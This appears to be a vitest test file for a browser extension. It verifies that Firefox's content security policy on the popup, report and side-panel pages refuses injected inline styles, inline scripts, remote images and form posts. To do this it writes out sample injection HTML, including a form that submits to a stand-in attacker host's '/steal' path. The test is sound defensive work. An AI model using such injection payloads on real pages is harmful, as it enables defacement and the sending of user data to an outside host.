/**
 * The extension-page content security policy in force in Firefox (issue #13): on the
 * popup, the report page and the side panel, what a script of ours could be tricked into
 * inserting (an inline style sheet, a style attribute, a remote image, an inline script, a
 * form posting elsewhere) is refused, and the page looks as it did. The fixture proxy sees
 * every request the browser makes: none goes to the attacker's host.
 */
import { describe, expect, test } from 'vitest';
import { openExtensionPage } from './support/firefox-extension';
import { useFirefox } from './support/suite';

const EVIL = 'https://images.evil.test';

describe('extension-page CSP in Firefox', () => {
  const firefox = useFirefox();

  test('popup, report page and side panel refuse inline style and script, remote images and form submission', async () => {
    for (const file of ['popup.html', 'report.html', 'sidepanel.html']) {
      const page = await openExtensionPage(firefox.browser, file);
      await page.waitForSelector('#app *', { timeout: 15_000 });
      const outcome = await page.evaluate(async (host) => {
        const look = () => {
          const body = getComputedStyle(document.body);
          return `${body.backgroundColor} ${body.fontSize} ${getComputedStyle(document.querySelector('#app') ?? document.body).display}`;
        };
        const before = look();
        const directives: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) => directives.push(event.violatedDirective.split(' ')[0] ?? ''));
        const style = document.createElement('style');
        style.textContent = 'body { background: rgb(255, 0, 0) !important; font-size: 40px !important } #app { display: none !important }';
        document.head.append(style);
        document.body.insertAdjacentHTML('beforeend', `<div style="position:fixed;inset:0;background:red"></div><img src="${host}/csp.gif"><form data-test="evil" action="${host}/steal"><input name="q"></form>`);
        const script = document.createElement('script');
        script.textContent = 'window.__inlineRan = true';
        document.body.append(script);
        document.querySelector<HTMLFormElement>('form[data-test="evil"]')?.requestSubmit();
        await new Promise((resolve) => setTimeout(resolve, 500));
        return { same: look() === before, inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true, directives: [...new Set(directives)].sort() };
      }, EVIL);
      expect(outcome.same, file).toBe(true);
      expect(outcome.inlineRan, file).toBe(false);
      expect(outcome.directives, file).toEqual(expect.arrayContaining(['form-action', 'img-src', 'script-src-elem', 'style-src-attr', 'style-src-elem']));
      await page.close();
    }
    expect([...firefox.proxy.served, ...firefox.proxy.refused].filter((url) => url.includes('evil.test'))).toEqual([]);
  });
});
